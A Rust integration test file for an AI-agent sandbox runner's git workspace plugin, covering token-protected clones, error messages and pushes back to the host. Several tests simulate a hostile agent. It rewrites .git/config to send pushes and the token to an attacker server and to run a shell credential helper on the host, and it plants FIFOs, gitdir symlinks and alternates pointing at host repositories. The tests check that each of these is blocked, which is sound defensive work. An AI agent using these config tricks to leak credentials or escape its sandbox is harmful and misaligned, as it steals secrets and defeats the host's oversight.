//! `workspace.source: git` end to end, against real git servers on 127.0.0.1.
//!
//! The servers stand in for a git host (see `support/git_server.rs`): `git
//! http-backend` behind HTTP Basic auth for the token path (an HTTPS forge without
//! TLS), and `git daemon` for anonymous clones. Each run is the real `agentgate`
//! binary with the built-in `workspace-git` plugin and the host's libgit2 capability.

use std::path::Path;
use std::process::{Command, Output};

use crate::support;
use crate::support::git_server::{git, git_available, make_repo, Daemon, HttpGit, Recorder};
use crate::support::{denied_events, shell_agent, stderr, task_spec, Home};

/// A token distinctive enough to grep for.
const TOKEN: &str = "tok-9f3c2e51-never-written";

/// Runs `agentgate run` on a `git` workspace (`settings` indented under
/// `workspace:`), with `sandbox` and `agent`, and `env` set on the host.
fn run_git(
    home: &Home,
    settings: &str,
    sandbox: &str,
    agent: &str,
    env: &[(&str, &str)],
) -> Output {
    let execution = format!(
        "workspace:\n  source: git\n{}sandbox:\n  provider: {sandbox}\n{agent}",
        support::indent(settings, 2)
    );
    let path = home.dir.path().join("task.yaml");
    std::fs::write(&path, task_spec("git-ws", "work on it", &execution)).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_agentgate"));
    command
        .args(["run", path.to_str().unwrap()])
        .env("AGENTGATE_HOME", home.dir.path())
        .env_remove("AGENTGATE_PLUGIN_PATH")
        .env_remove("GITHUB_TOKEN");
    for (name, value) in env {
        command.env(name, value);
    }
    command.output().expect("running agentgate")
}

fn clone_with(home: &Home, settings: &str) -> Output {
    run_git(home, settings, "none", &shell_agent("cat README.md"), &[])
}

/// Every file under `dir` (recursively) whose bytes contain `needle`.
fn files_containing(dir: &Path, needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                stack.push(path);
            } else if kind.is_file() {
                let bytes = std::fs::read(&path).unwrap_or_default();
                if bytes.windows(needle.len()).any(|w| w == needle.as_bytes()) {
                    found.push(path.display().to_string());
                }
            }
        }
    }
    found
}

fn workspace_commit(home: &Home) -> String {
    home.result()["workspace"]["commit"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn branches_tags_and_shas_are_told_apart_over_git_daemon() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let repo = make_repo(root.path(), "app");
    let daemon = Daemon::start(root.path());
    let url = daemon.url("app");
    let cases = [
        (None, &repo.commits[2], Some("main")),
        (Some("feature"), &repo.commits[1], Some("feature")),
        (Some("v1.0"), &repo.commits[0], None),
        // An annotated tag peels to its commit.
        (Some("v2.0"), &repo.commits[2], None),
        (Some(&repo.commits[0][..10]), &repo.commits[0], None),
    ];
    for (reference, commit, branch) in cases {
        let home = Home::new();
        let settings = match reference {
            Some(r) => format!("url: {url}\nref: {r:?}\n"),
            None => format!("url: {url}\n"),
        };
        let output = clone_with(&home, &settings);
        assert!(
            output.status.success(),
            "{reference:?}: {}",
            stderr(&output)
        );
        assert_eq!(&workspace_commit(&home), commit, "{reference:?}");
        let clone = home.run_folder().join("workspace");
        assert_eq!(
            &git(&clone, &["rev-parse", "HEAD"]),
            commit,
            "{reference:?}"
        );
        let head = git(&clone, &["rev-parse", "--abbrev-ref", "HEAD"]);
        assert_eq!(head, branch.unwrap_or("HEAD"), "{reference:?}");
        // The clone is the run's: kept, its origin the URL as given.
        assert_eq!(git(&clone, &["remote", "get-url", "origin"]), url);
        assert_eq!(home.result()["workspace"]["source"], "git");
    }
}

#[test]
fn a_token_clone_is_shallow_and_leaves_the_token_nowhere() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    make_repo(root.path(), "private");
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let home = Home::new();
    let output = run_git(
        &home,
        &format!(
            "url: {}\nref: main\ndepth: 1\ncredentials:\n  type: token\n  token: ${{MY_GIT_TOKEN}}\n",
            server.url("private")
        ),
        "none",
        &shell_agent("cat README.md"),
        &[("MY_GIT_TOKEN", TOKEN)],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    // The server really asked for and got the token, as Basic auth.
    assert!(!server.auth_seen.lock().unwrap().is_empty());
    let clone = home.run_folder().join("workspace");
    assert_eq!(git(&clone, &["rev-list", "--count", "HEAD"]), "1");
    assert_eq!(
        std::fs::read_to_string(clone.join("README.md")).unwrap(),
        "third\n"
    );
    // Not in .git/config, the clone, the run folder (logs, events, result) or the home.
    let config = std::fs::read_to_string(clone.join(".git/config")).unwrap();
    assert!(
        !config.contains(TOKEN) && !config.contains("x-access-token"),
        "{config}"
    );
    assert_eq!(
        files_containing(home.dir.path(), TOKEN),
        Vec::<String>::new()
    );
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        stderr(&output)
    );
    assert!(!out.contains(TOKEN), "{out}");
    // Clone progress reached the events as the plugin's progress.
    let events = home.log("events.ndjson");
    assert!(
        events
            .lines()
            .any(|l| l.contains("\"source\":\"workspace-git\"")
                && l.contains("\"phase\":\"clone\"")
                && l.contains("receiving objects")),
        "{events}"
    );
}

#[test]
fn credentials_from_a_host_variable() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let repo = make_repo(root.path(), "private");
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let home = Home::new();
    let output = run_git(
        &home,
        &format!(
            "url: {}\nref: v1.0\ncredentials:\n  type: env\n  envVar: DEPLOY_TOKEN\n",
            server.url("private")
        ),
        "none",
        &shell_agent("true"),
        &[("DEPLOY_TOKEN", &format!("deploy:{TOKEN}"))],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(workspace_commit(&home), repo.commits[0]);
    assert_eq!(
        files_containing(home.dir.path(), TOKEN),
        Vec::<String>::new()
    );
}

#[test]
fn auth_ref_and_network_failures_say_what_to_fix() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    make_repo(root.path(), "private");
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let url = server.url("private");
    let token = |t: &str| format!("url: {url}\ncredentials:\n  type: token\n  token: {t}\n");

    let home = Home::new();
    let output = clone_with(&home, &token("wrong-token-123"));
    let err = stderr(&output);
    assert!(!output.status.success());
    assert!(
        err.contains(&url)
            && err.contains("refused the credentials")
            && err.contains("workspace.credentials"),
        "{err}"
    );
    assert!(!err.contains("wrong-token-123"), "{err}");

    let output = clone_with(&Home::new(), &format!("url: {url}\n"));
    let err = stderr(&output);
    assert!(
        err.contains(&url) && err.contains("none were given"),
        "{err}"
    );

    let output = clone_with(
        &Home::new(),
        &format!("{}ref: no-such-branch\n", token(TOKEN)),
    );
    let err = stderr(&output);
    assert!(
        err.contains("\"no-such-branch\"") && err.contains("workspace.ref") && err.contains("main"),
        "{err}"
    );

    let output = clone_with(
        &Home::new(),
        &token(TOKEN).replace("private.git", "missing.git"),
    );
    let err = stderr(&output);
    assert!(
        err.contains("missing.git") && err.contains("not found"),
        "{err}"
    );

    // A port nothing listens on.
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let dead = format!("http://127.0.0.1:{closed}/x.git");
    let output = clone_with(&Home::new(), &format!("url: {dead}\n"));
    let err = stderr(&output);
    assert!(
        err.contains(&dead) && err.contains("cannot be reached"),
        "{err}"
    );

    // A secret in the URL is refused before anything is written.
    let output = clone_with(
        &Home::new(),
        &format!(
            "url: http://u:{TOKEN}@127.0.0.1:{}/private.git\n",
            server.port
        ),
    );
    let err = stderr(&output);
    assert!(
        err.contains("workspace.credentials") && !err.contains(TOKEN),
        "{err}"
    );
}

#[test]
fn a_commit_no_ref_names_is_fetched_directly_when_the_server_allows_it() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let repo = make_repo(root.path(), "app");
    git(
        &repo.bare,
        &["config", "uploadpack.allowAnySHA1InWant", "true"],
    );
    let server = HttpGit::start(root.path(), None);
    let home = Home::new();
    let output = clone_with(
        &home,
        &format!(
            "url: {}\nref: {}\ndepth: 1\n",
            server.url("app"),
            repo.commits[1]
        ),
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let clone = home.run_folder().join("workspace");
    assert_eq!(git(&clone, &["rev-parse", "HEAD"]), repo.commits[1]);
    assert_eq!(git(&clone, &["rev-list", "--count", "HEAD"]), "1");
}

#[test]
fn an_agent_edit_in_a_subprocess_sandbox_shows_in_modified_files() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    make_repo(root.path(), "app");
    let daemon = Daemon::start(root.path());
    let home = Home::new();
    let output = run_git(
        &home,
        &format!("url: {}\nref: main\n", daemon.url("app")),
        "subprocess",
        &shell_agent("echo changed >> README.md\necho new > added.txt"),
        &[],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let result = home.result();
    let files = result["modifiedFiles"].as_array().unwrap();
    let change = |path: &str| {
        files
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("{path} not in {files:?}"))
            .clone()
    };
    assert_eq!(change("README.md")["change"], "modified", "{files:?}");
    assert_eq!(change("added.txt")["change"], "added", "{files:?}");
    assert!(
        !files
            .iter()
            .any(|f| f["path"].as_str().unwrap().starts_with(".git/")),
        "{files:?}"
    );
}

/// The capability's status, diff, commit and push, called as the host library
/// (what result collection and delivery use), against the token-protected server.
#[test]
fn status_diff_commit_and_push() {
    use agentgate::capabilities::git::{self, credentials::Secret};
    use agentgate::wit::git::{ChangeKind, Credentials};
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let repo = make_repo(root.path(), "app");
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let work = root.path().join("checkout");
    git(
        root.path(),
        &[
            "clone",
            "-q",
            repo.bare.to_str().unwrap(),
            work.to_str().unwrap(),
        ],
    );
    std::fs::write(work.join("README.md"), "edited\n").unwrap();
    std::fs::write(work.join("new.txt"), "new\n").unwrap();
    std::fs::remove_file(work.join("file0.txt")).unwrap();

    let changes = git::status(&work).unwrap();
    let kinds: Vec<(&str, ChangeKind)> =
        changes.iter().map(|c| (c.path.as_str(), c.kind)).collect();
    assert_eq!(
        kinds,
        [
            ("README.md", ChangeKind::Modified),
            ("file0.txt", ChangeKind::Deleted),
            ("new.txt", ChangeKind::Added)
        ]
    );
    let patch = git::diff(&work, None).unwrap();
    assert!(
        patch.contains("-third\n+edited\n") && patch.contains("+new\n"),
        "{patch}"
    );

    git::checkout_new_branch(&work, "agent/change").unwrap();
    let sha = git::commit_all(&work, "agent change", "Agent", "agent@example.com").unwrap();
    assert!(git::status(&work).unwrap().is_empty());
    assert_eq!(
        git::head(&work).unwrap().branch.as_deref(),
        Some("agent/change")
    );

    let wrong = Secret::resolve(&Credentials::Token("nope".into())).unwrap();
    let err = git::push(&work, &server.url("app"), "refs/heads/agent/change", &wrong).unwrap_err();
    assert!(err.to_string().contains("refused the credentials"), "{err}");
    let secret = Secret::resolve(&Credentials::Token(TOKEN.into())).unwrap();
    git::push(
        &work,
        &server.url("app"),
        "refs/heads/agent/change",
        &secret,
    )
    .unwrap();
    assert_eq!(
        git(&repo.bare, &["rev-parse", "refs/heads/agent/change"]),
        sha
    );
    assert!(!std::fs::read_to_string(work.join(".git/config"))
        .unwrap()
        .contains(TOKEN));
}

/// Runs the `pushing-workspace` fixture (granted `events` and `git`, cloning from and
/// pushing to `url`): it clones `url` with the host variable `PUSH_TOKEN`, the agent
/// runs `script` in a `subprocess` sandbox, then at release, the agent gone, the plugin
/// commits, checks out `agent/work` and pushes it through the host's `git` capability.
fn run_push_back(home: &Home, url: &str, script: &str) -> Output {
    let grant = format!("pushing-workspace=events,git:remote={url},git:push");
    run_push_back_granted(home, url, script, &grant)
}

/// [`run_push_back`] with the `--grant` flag `grant`.
fn run_push_back_granted(home: &Home, url: &str, script: &str, grant: &str) -> Output {
    let execution = format!(
        "workspace:\n  source: push-back\n  options:\n    url: {url}\n    branch: agent/work\n    tokenEnv: PUSH_TOKEN\nsandbox:\n  provider: subprocess\n  resources:\n    timeout: 60s\n{}",
        shell_agent(script)
    );
    let path = home.dir.path().join("task.yaml");
    std::fs::write(&path, task_spec("push-back", "work on it", &execution)).unwrap();
    Command::new(env!("CARGO_BIN_EXE_agentgate"))
        .args(["run", path.to_str().unwrap(), "--plugin-dir"])
        .arg(support::fixture_plugins())
        .args(["--grant", grant])
        .env("AGENTGATE_HOME", home.dir.path())
        .env_remove("AGENTGATE_PLUGIN_PATH")
        .env_remove("GITHUB_TOKEN")
        .env("PUSH_TOKEN", TOKEN)
        .output()
        .expect("running agentgate")
}

/// What a hostile agent appends to the workspace's `.git/config` so that a host push
/// goes to `attacker` (and hands it the token), runs a credential helper that writes
/// `marker` on the host, and reads `include` (a host file the agent cannot write).
fn hostile_git_config(real: &str, attacker: &str, marker: &Path, include: &Path) -> String {
    format!(
        "[url \"{attacker}\"]\n\tpushInsteadOf = {real}\n\tinsteadOf = {real}\n\
         [http]\n\tproxy = {attacker}\n\textraHeader = X-Stolen: yes\n\tsslVerify = false\n\
         [credential]\n\thelper = \"!sh -c \\\"echo pwned > {marker}\\\"\"\n\
         [remote \"origin\"]\n\turl = {attacker}app.git\n\tpushurl = {attacker}app.git\n\
         [core]\n\thooksPath = /tmp\n\
         [include]\n\tpath = {include}\n",
        marker = marker.display(),
        include = include.display(),
    )
}

/// The agent's script: it changes a file, rewrites `.git/config`, and says it ran.
fn hostile_agent(config: &str) -> String {
    format!(
        "echo 'agent work' > WORK.md\ncat >> .git/config <<'EOF'\n{config}EOF\necho AGENT-RAN\n"
    )
}

/// Break 4 of issue 16: a host push after the agent ran follows nothing the agent
/// wrote in `.git/config`. The push reaches the URL recorded at the clone, the
/// attacker's server sees no request at all, the credential helper never runs, and
/// the token is written nowhere.
#[test]
fn a_host_push_ignores_what_the_agent_wrote_in_git_config() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    make_repo(root.path(), "app");
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let attacker = Recorder::start();
    let real = format!("http://127.0.0.1:{}/", server.port);
    let marker = root.path().join("helper-ran");
    // A host file the agent cannot write, included by the agent's config: it also
    // sends pushes to the attacker.
    let include = root.path().join("host.gitconfig");
    std::fs::write(
        &include,
        format!("[url \"{}\"]\n\tpushInsteadOf = {real}\n", attacker.url()),
    )
    .unwrap();
    let home = Home::new();
    let config = hostile_git_config(&real, &attacker.url(), &marker, &include);
    let output = run_push_back(&home, &server.url("app"), &hostile_agent(&config));

    // The agent ran and rewrote the config.
    assert!(home.dir.path().join("runs").exists(), "{}", stderr(&output));
    assert!(
        home.log("stdout.log").contains("AGENT-RAN"),
        "{}",
        stderr(&output)
    );
    let workspace = home.run_folder().join("workspace");
    let written = std::fs::read_to_string(workspace.join(".git/config")).unwrap();
    assert!(written.contains("pushInsteadOf"), "{written}");

    assert!(
        output.status.success() && home.result()["error"].is_null(),
        "{}\n{}",
        stderr(&output),
        home.result()
    );
    assert_eq!(
        attacker.seen(),
        Vec::<String>::new(),
        "the attacker was contacted"
    );
    let bare = root.path().join("app.git");
    assert_eq!(
        git(&bare, &["show", "refs/heads/agent/work:WORK.md"]),
        "agent work"
    );
    assert_eq!(
        git(&bare, &["rev-parse", "refs/heads/agent/work"]),
        git(&workspace, &["rev-parse", "HEAD"])
    );
    assert!(
        !marker.exists(),
        "the agent's credential helper ran on the host"
    );
    assert!(!written.contains(TOKEN));
    assert_eq!(
        files_containing(home.dir.path(), TOKEN),
        Vec::<String>::new()
    );
}

/// A push the real server refuses fails the release with an error that names the URL
/// recorded at the clone, never the one the agent wrote in `.git/config`.
#[test]
fn a_refused_host_push_names_the_recorded_url() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let repo = make_repo(root.path(), "app");
    let hook = repo.bare.join("hooks/pre-receive");
    std::fs::write(&hook, "#!/bin/sh\necho no pushes here >&2\nexit 1\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let attacker = Recorder::start();
    let real = format!("http://127.0.0.1:{}/", server.port);
    let marker = root.path().join("helper-ran");
    let include = root.path().join("host.gitconfig");
    std::fs::write(&include, "[core]\n\tautocrlf = false\n").unwrap();
    let home = Home::new();
    let config = hostile_git_config(&real, &attacker.url(), &marker, &include);
    let output = run_push_back(&home, &server.url("app"), &hostile_agent(&config));

    assert!(home.dir.path().join("runs").exists(), "{}", stderr(&output));
    assert!(
        home.log("stdout.log").contains("AGENT-RAN"),
        "{}",
        stderr(&output)
    );
    // A release that fails means the work was not delivered: the run is an error.
    assert_eq!(home.result()["status"], "error");
    assert_ne!(output.status.code(), Some(0));
    let error = home.result()["error"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        error.contains(&format!("{}: the server rejected", server.url("app"))),
        "{error}"
    );
    assert!(!error.contains(&attacker.url()), "{error}");
    assert_eq!(
        attacker.seen(),
        Vec::<String>::new(),
        "the attacker was contacted"
    );
    assert!(
        !marker.exists(),
        "the agent's credential helper ran on the host"
    );
    assert_eq!(
        files_containing(home.dir.path(), TOKEN),
        Vec::<String>::new()
    );
}

/// Runs `work` on a thread and waits for it at most `secs` seconds: a host call that
/// reads a FIFO the agent planted would otherwise hang the test instead of failing it.
fn within<T: Send + 'static>(secs: u64, work: impl FnOnce() -> T + Send + 'static) -> T {
    let (send, receive) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = send.send(work());
    });
    receive
        .recv_timeout(std::time::Duration::from_secs(secs))
        .expect("the host git call hung")
}

/// The library calls of the `git` capability against a token-protected server, and a
/// host repository (with a private commit) that the agent must not reach.
struct Library {
    root: tempfile::TempDir,
    bare: std::path::PathBuf,
    server: HttpGit,
    secret: agentgate::capabilities::git::credentials::Secret,
    private: std::path::PathBuf,
    private_commit: String,
}

impl Library {
    fn new() -> Library {
        use agentgate::capabilities::git::credentials::Secret;
        use agentgate::wit::git::Credentials;
        let root = tempfile::tempdir().unwrap();
        let repo = make_repo(root.path(), "app");
        let server = HttpGit::start(root.path(), Some(TOKEN));
        let secret = Secret::resolve(&Credentials::Token(TOKEN.into())).unwrap();
        let private = root.path().join("private");
        std::fs::create_dir_all(&private).unwrap();
        git(&private, &["init", "-q", "-b", "main"]);
        std::fs::write(private.join("secret.txt"), "host secret\n").unwrap();
        git(&private, &["add", "-A"]);
        git(&private, &["commit", "-q", "-m", "private"]);
        let private_commit = git(&private, &["rev-parse", "HEAD"]);
        Library {
            bare: repo.bare,
            root,
            server,
            secret,
            private,
            private_commit,
        }
    }

    /// A clone made with the git CLI, as a workspace the agent then had its way with.
    fn checkout(&self, name: &str) -> std::path::PathBuf {
        let work = self.root.path().join(name);
        git(
            self.root.path(),
            &[
                "clone",
                "-q",
                self.bare.to_str().unwrap(),
                work.to_str().unwrap(),
            ],
        );
        work
    }

    fn server_has(&self, object: &str) -> bool {
        Command::new("git")
            .args(["cat-file", "-e", object])
            .current_dir(&self.bare)
            .status()
            .unwrap()
            .success()
    }
}

/// `core.worktree` aimed at a host repository's folder, `core.bare`, and an
/// `include.path` that is a FIFO: status and commit read none of it (the FIFO would
/// hang them), and commit only the workspace's files.
#[test]
fn host_git_calls_read_no_setting_of_the_workspace() {
    use agentgate::capabilities::git;
    if !git_available() {
        return;
    }
    let lib = Library::new();
    let work = lib.checkout("worktree");
    let fifo = lib.root.path().join("fifo");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let config = work.join(".git/config");
    let original = std::fs::read_to_string(&config).unwrap();
    let hostile = format!(
        "{original}[core]\n\tworktree = {}\n\tbare = true\n[include]\n\tpath = {}\n",
        lib.private.display(),
        fifo.display()
    );
    std::fs::write(&config, hostile).unwrap();
    std::fs::write(work.join("mine.txt"), "mine\n").unwrap();
    // A FIFO in the work tree is no file to read either.
    assert!(Command::new("mkfifo")
        .arg(work.join("pipe"))
        .status()
        .unwrap()
        .success());
    let w = work.clone();
    let changes = within(30, move || git::status(&w)).unwrap();
    let paths: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(paths, ["mine.txt"]);
    let w = work.clone();
    let sha = within(30, move || {
        git::commit_all(&w, "work", "A", "a@example.com")
    })
    .unwrap();
    // The git CLI would read the FIFO too: put the config back to look.
    std::fs::write(&config, original).unwrap();
    assert_eq!(git(&work, &["rev-parse", "HEAD"]), sha);
    assert_eq!(
        git(&work, &["show", "--name-only", "--format=", "HEAD"]),
        "mine.txt"
    );
}

/// A `.git` that is a `gitdir:` file, or a symlink, to a host repository is refused,
/// never followed: the host repository's commit is neither read nor pushed.
#[test]
fn a_dot_git_file_or_symlink_is_not_followed() {
    use agentgate::capabilities::git;
    if !git_available() {
        return;
    }
    let lib = Library::new();
    for plant in ["file", "symlink"] {
        let work = lib.checkout(&format!("git{plant}"));
        std::fs::remove_dir_all(work.join(".git")).unwrap();
        let target = lib.private.join(".git");
        if plant == "file" {
            std::fs::write(work.join(".git"), format!("gitdir: {}\n", target.display())).unwrap();
        } else {
            std::os::unix::fs::symlink(&target, work.join(".git")).unwrap();
        }
        let err = git::head(&work).unwrap_err().to_string();
        assert!(err.contains(".git is not a directory"), "{plant}: {err}");
        let err = git::push(
            &work,
            &lib.server.url("app"),
            "HEAD:refs/heads/stolen",
            &lib.secret,
        )
        .unwrap_err()
        .to_string();
        assert!(err.contains(".git is not a directory"), "{plant}: {err}");
        assert!(!lib.server_has(&lib.private_commit), "{plant}");
    }
}

/// `objects/info/alternates` naming a host repository's objects, and a ref naming its
/// commit: a push of that ref does not carry the host repository's commit.
#[test]
fn alternates_lend_no_host_objects_to_a_push() {
    use agentgate::capabilities::git;
    if !git_available() {
        return;
    }
    let lib = Library::new();
    let work = lib.checkout("alternates");
    std::fs::write(
        work.join(".git/objects/info/alternates"),
        format!("{}\n", lib.private.join(".git/objects").display()),
    )
    .unwrap();
    std::fs::write(
        work.join(".git/refs/heads/stolen"),
        format!("{}\n", lib.private_commit),
    )
    .unwrap();
    let pushed = git::push(
        &work,
        &lib.server.url("app"),
        "refs/heads/stolen:refs/heads/stolen",
        &lib.secret,
    );
    assert!(pushed.is_err());
    assert!(
        !lib.server_has(&lib.private_commit),
        "the host repository's commit reached the server"
    );
}

/// What a run said: its stderr and, when it made a run folder, its result.json.
fn outcome(home: &Home, output: &Output) -> String {
    let result = if home.dir.path().join("runs").exists() {
        home.result().to_string()
    } else {
        String::new()
    };
    format!("{}\n{result}", stderr(output))
}

/// A plugin that is not built in, granted `git`, reaches only the remotes its scope
/// lists and pushes only with `push`: a clone outside it and a push without it are
/// refused with the line that would allow them, and nothing reaches the server.
#[test]
fn a_third_party_plugin_clones_and_pushes_only_within_its_git_scope() {
    if !git_available() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    make_repo(root.path(), "app");
    let server = HttpGit::start(root.path(), Some(TOKEN));
    let url = server.url("app");
    let bare = root.path().join("app.git");
    let pushed = || {
        Command::new("git")
            .arg("--git-dir")
            .arg(&bare)
            .args(["rev-parse", "--verify", "-q", "refs/heads/agent/work"])
            .output()
            .unwrap()
            .status
            .success()
    };
    const WORK: &str = "echo AGENT-RAN\necho 'agent work' > WORK.md\n";

    // `git` alone: no remote at all.
    let home = Home::new();
    let output = run_push_back_granted(&home, &url, WORK, "pushing-workspace=events,git");
    let said = outcome(&home, &output);
    assert!(!output.status.success(), "{said}");
    assert!(
        said.contains("git.clone by plugin pushing-workspace")
            && said.contains("plugins: {pushing-workspace: {git: {remotes: [")
            && said.contains(&url),
        "{said}"
    );
    assert!(!home.log("stdout.log").contains("AGENT-RAN"), "{said}");

    // The remote listed, `push` not: the agent works, the push is refused.
    let home = Home::new();
    let grant = format!("pushing-workspace=events,git:remote={url}");
    let output = run_push_back_granted(&home, &url, WORK, &grant);
    let said = outcome(&home, &output);
    assert!(home.log("stdout.log").contains("AGENT-RAN"), "{said}");
    assert!(
        said.contains("git.push by plugin pushing-workspace")
            && said.contains("plugins: {pushing-workspace: {git: {push: true}}}"),
        "{said}"
    );
    let denied = denied_events(&home);
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(denied[0]["source"], "pushing-workspace");
    assert_eq!(denied[0]["call"], "git.push");
    assert_eq!(denied[0]["argument"], format!("remote {url:?}"));
    assert!(!pushed(), "a refused push reached the server");

    // With `push`, the same run delivers.
    let home = Home::new();
    let output = run_push_back(&home, &url, WORK);
    assert!(output.status.success(), "{}", outcome(&home, &output));
    assert!(pushed());
}
